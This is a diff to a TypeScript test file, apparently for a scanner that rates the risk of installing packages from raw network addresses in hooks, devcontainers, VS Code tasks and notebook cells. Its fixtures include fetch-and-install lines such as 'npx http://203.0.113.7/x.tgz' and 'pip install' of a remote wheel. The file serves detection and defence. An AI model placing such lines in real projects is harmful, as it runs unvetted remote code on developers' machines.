@@ -6,7 +6,13 @@ const PATHS: readonly (readonly [path: string, around: (command: string) => stri
   ['setup.sh', (command) => `set -e\n${command}\n`],
   ['Dockerfile', (command) => `FROM python:3.12\nRUN ${command}\n`],
   ['Makefile', (command) => `deps:\n\t${command}\n`],
-  ['.husky/pre-commit', (command) => `#!/bin/sh\n${command}\n`],
+  ['.husky/pre-commit', (command) => `npm test\n${command}\n`],
+  ['.githooks/post-checkout', (command) => `#!/bin/sh\n${command}\n`],
+  [
+    '.pre-commit-config.yaml',
+    (command) => `repos:\n- {repo: local, hooks: [{id: x, language: system, entry: '${command}'}]}\n`,
+  ],
+  ['.devcontainer/devcontainer.json', (command) => `{\n"postCreateCommand": "sudo ${command}"}\n`],
 ];
 
 async function told(path: string, text: string): Promise<string[]> {
@@ -113,6 +119,24 @@ describe('a package from an address', () => {
     ]);
     const node = "require('child_process').spawnSync('npx', ['http://203.0.113.7/x.tgz']);\n";
     expect(await told('a.js', node)).toEqual(['HIGH 1']);
+  });
+
+  it('is for review where somebody starts it by hand', async () => {
+    const task = { label: 'a', type: 'shell', command: 'pip install http://203.0.113.7/x.whl' };
+    const text = JSON.stringify({ version: '2.0.0', tasks: [task] });
+    expect(await told('.vscode/tasks.json', text)).toEqual(['MEDIUM 1']);
+  });
+
+  it('is told once of a cell, as the requirement that it is', async () => {
+    const cell = (source: string): string =>
+      JSON.stringify({
+        cells: [{ cell_type: 'code', source, metadata: {}, outputs: [], execution_count: null }],
+        metadata: {},
+        nbformat: 4,
+        nbformat_minor: 5,
+      });
+    expect(await told('a.ipynb', cell('!pip install http://203.0.113.7/x.whl'))).toEqual([]);
+    expect(await told('a.ipynb', cell('!npm i http://203.0.113.7/x.tgz'))).toEqual(['HIGH 1']);
   });
 
   it('is for review in tests', async () => {
